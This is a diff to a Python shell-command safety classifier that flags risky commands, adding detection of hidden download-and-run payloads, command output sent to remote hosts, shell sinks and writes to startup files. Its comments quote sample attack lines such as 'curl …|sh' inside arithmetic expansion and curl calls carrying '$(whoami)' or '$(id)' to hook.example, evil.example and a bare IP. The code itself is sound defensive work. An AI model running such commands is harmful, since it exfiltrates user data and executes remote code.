@@ -54,7 +54,7 @@ from gitgate.safety.classify.model import (
 )
 from gitgate.safety.classify.parser import ParserGaveUp, parse, pre_parse_problem
 from gitgate.safety.classify.paths import join_cwd, judge_path, secret_reason, startup_file
-from gitgate.safety.classify.producers import pipeline_names
+from gitgate.safety.classify.producers import Names, pipeline_names
 from gitgate.safety.classify.tables import tables
 
 _SCAN_LIMIT = 65536  # characters of an over-long command the rough deny scan looks at
@@ -110,6 +110,7 @@ def classify_findings(text: str, ctx: Ctx) -> list[Finding]:
     if not text.strip():
         return []
     text_level = text_level_findings(text)
+    text = _CONSTANT_ARITHMETIC.sub("0", text)  # $((16#ff + 2**10)): bashlex cannot parse it
     try:
         trees = parse(text, ctx.budget)
     except ParserGaveUp as stopped:
@@ -122,7 +123,7 @@ def classify_findings(text: str, ctx: Ctx) -> list[Finding]:
         reason = f"could not parse the command ({type(exc).__name__}): a human must read it"
         return text_level + rough_scan(text, ctx) + [approve(reason)]
     findings = text_level + _comment_findings(text, trees)
-    if has_escaped_metachar(text):
+    if has_escaped_metachar(_FIND_TERMINATOR.sub(" ", text)):
         findings.append(
             approve("escaped shell operator (like '\\;'): the text is not what it seems")
         )
@@ -131,6 +132,34 @@ def classify_findings(text: str, ctx: Ctx) -> list[Finding]:
         findings.extend(walker.node(tree, 0))
     return findings
 
+
+# Substitutions whose output the walk knows: the repository's top directory, and the
+# repository's files of one kind (`wc -l $(git ls-files '*.go')` is `wc -l` on a glob).
+_TOPLEVEL = re.compile(r"\"?\$\(git rev-parse --show-toplevel\)\"?((?:/[^$`\"'\s]*)?)\"?")
+_LISTED = re.compile(r"\$\(git ls-files (?:-z )?(?:-- )?'(\*\.\w+)'\)|`git ls-files '(\*\.\w+)'`")
+
+
+def known_substitution(raw: str) -> str | None:
+    """What ``raw`` (a word holding a command substitution) expands to, when that output is
+    known to the walk; None otherwise. The substitution itself is still judged."""
+    top = _TOPLEVEL.fullmatch(raw)
+    if top is not None:
+        return "." + top.group(1)
+    listed = _LISTED.fullmatch(raw)
+    if listed is not None:
+        pattern = listed.group(1) or listed.group(2)
+        return pattern if Names((pattern,)).harmless else None
+    return None
+
+
+# $((…)) of numbers and operators only (no name: `$((x))` evaluates x, and x may hold
+# `a[$(cmd)]`). Same length is not needed: the walk reads the text it parsed.
+_CONSTANT_ARITHMETIC = re.compile(
+    r"\$\(\((?:\s|\d+#[0-9A-Za-z@_]+|0[xX][0-9a-fA-F]+|\d+|[-+*/%<>=!&|^~?:,()])*\)\)"
+)
+
+# `find … -exec CMD {} \;`: the escaped `;` ends find's command, as find's manual spells it.
+_FIND_TERMINATOR = re.compile(r"(?<=\s)\\;(?=\s*(?:$|[|&;)]|-\w|\\?!|\\?\())")
 
 # bash's `time` reserved word (`time make`, `a && time -p b`): bashlex does not know it. It
 # only reports how long the pipeline took, so the text without it is judged instead.
@@ -277,6 +306,9 @@ def rough_scan(text: str, ctx: Ctx) -> list[Finding]:
     # Quotes and backslashes are dropped so r''m, "r"m and \rm all read as rm.
     unquoted = re.sub(r"\$'|['\"\\]", "", text)
     findings.extend(_rough_pipes_into_shell(unquoted))
+    payload = _PAYLOAD_TEXT.search(unquoted)
+    if payload is not None:  # x='a[$(curl …|sh)]'; echo $((x)): a payload the parser missed
+        findings.append(deny(f"{short(payload.group(0), 50)!r}: a download-and-run payload"))
     for segment in _ROUGH_SEPARATORS.split(unquoted):
         tokens = segment.split()
         while tokens and (tokens[0] in _RESERVED or is_assignment(tokens[0])):
@@ -550,6 +582,10 @@ class Walker:
                 self.payload_printed = True  # `echo '…' | tee -a ~/.bashrc` writes it
                 continue
             return [deny(f"{short(text, 50)!r}: a download-and-run payload as {where} of {name}")]
+        if self.payload and any(_SHELL_SINK.match(w.raw) for w in argv[1:]):
+            return [deny(f"{argv_text(argv)!r} hands downloaded or decoded text to a shell")]
+        if argv and self.payload_printed and command_name(argv[0].text)[0] in _COMMAND_READERS:
+            return [deny(f"{argv_text(argv)!r} reads a download-and-run payload as commands")]
         if argv and self.payload_printed and command_name(argv[0].text)[0] in ("tee", "sponge"):
             if any(_RUNS_LATER.search(w.text) or startup_file(w.text) for w in argv[1:]):
                 return [deny(f"{argv_text(argv)!r} writes a download-and-run payload to a file")]
@@ -628,6 +664,9 @@ class Walker:
                     # curl "https://hook.example/h?u=$(whoami)": command output carried off
                     # in a URL to another host
                     return [deny(f"{name} sends command output to another host in a URL")]
+                if name in ("curl", "wget", "http", "https") and _remote_target(words):
+                    # curl -A "$(id)" http://203.0.113.31/: in a header, a body, an agent
+                    return [deny(f"{name} sends command output to another host")]
                 texts = _simple_texts(self, sub.command)
                 if any(is_decoder(plain_words(split_words(t))) for t in texts):
                     return [deny(f"an argument decoded at run time: {short(self._raw(sub))!r}")]
@@ -803,7 +842,8 @@ class Walker:
             # diff <(sort a) <(sort b): the command reads a pipe; the inner one is judged.
             return Word("/dev/fd/63", raw, False)
         if any(kind in ("commandsubstitution", "processsubstitution") for kind in kinds):
-            return Word(text, raw, True)
+            known = known_substitution(raw)
+            return Word(known, raw, False) if known is not None else Word(text, raw, True)
         literal = ansi_c_word(raw)
         if literal is not None:
             # $'\t', $'.e\x6ev': ANSI-C quoting is a constant; judge what bash will pass.
@@ -831,7 +871,8 @@ class Walker:
             if kind in ("commandsubstitution", "processsubstitution"):
                 findings.extend(self.node(part, depth))
                 raw = self._raw(part)
-                if not (kind == "processsubstitution" and raw.startswith("<(")):
+                known = known_substitution(self._raw(node)) is not None
+                if not (kind == "processsubstitution" and raw.startswith("<(")) and not known:
                     findings.append(approve(f"uses command output: {short(raw)!r}"))
             elif kind == "parameter":
                 value = str(getattr(part, "value", ""))
@@ -934,11 +975,27 @@ _SEARCHERS = frozenset(["grep", "egrep", "fgrep", "rg", "ag", "ack"])
 _RUNS_LATER = re.compile(
     r"(?i)(?:^|/)(?:makefile|gnumakefile|justfile|taskfile\.ya?ml|jenkinsfile|dockerfile[^/]*"
     r"|\.gitlab-ci\.ya?ml|\.pre-commit-config\.ya?ml|\.envrc|package\.json|setup\.py"
-    r"|conftest\.py|tasks\.json|crontab|[^/]*\.(?:mk|sh|bash|zsh|ps1|service|timer))$"
+    r"|conftest\.py|tasks\.json|crontab|sitecustomize\.py|usercustomize\.py"
+    r"|[^/]*\.(?:mk|sh|bash|zsh|ps1|service|timer|pth))\"?$"
     r"|(?:^|/)(?:\.github/workflows|\.circleci|\.git/hooks|\.husky|bash-completion)/"
     r"|(?:^|/)\.ssh/(?:config|rc|authorized_keys)$"
 )
+_SHELL_SINK = re.compile(r">\(\s*(?:sudo\s+)?(?:/\S*/)?(?:ba|z|da|k|fi)?sh\b")
+_COMMAND_READERS = frozenset(["ed", "ex", "vim", "vi", "nvim", "red"])  # `echo '!cmd' | ed`
 _GIT_SETTING = re.compile(r"[a-z][\w-]*\.[\w.*-]*=", re.IGNORECASE)  # core.fsmonitor=…
+
+
+def _remote_target(words: list[Word]) -> bool:
+    """Whether a downloader's words name a URL (or host) that is not this machine."""
+    for word in words[1:]:
+        text = word.text
+        if _REMOTE_URL.match(text) and not is_local_url(text):
+            return True
+        if re.fullmatch(r"[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:/\S*)?", text) and not is_local_url(
+            "http://" + text
+        ):
+            return True  # curl evil.example/x: no scheme, still a host
+    return False
 
 
 def _writes_code(stage: list[Word]) -> bool:
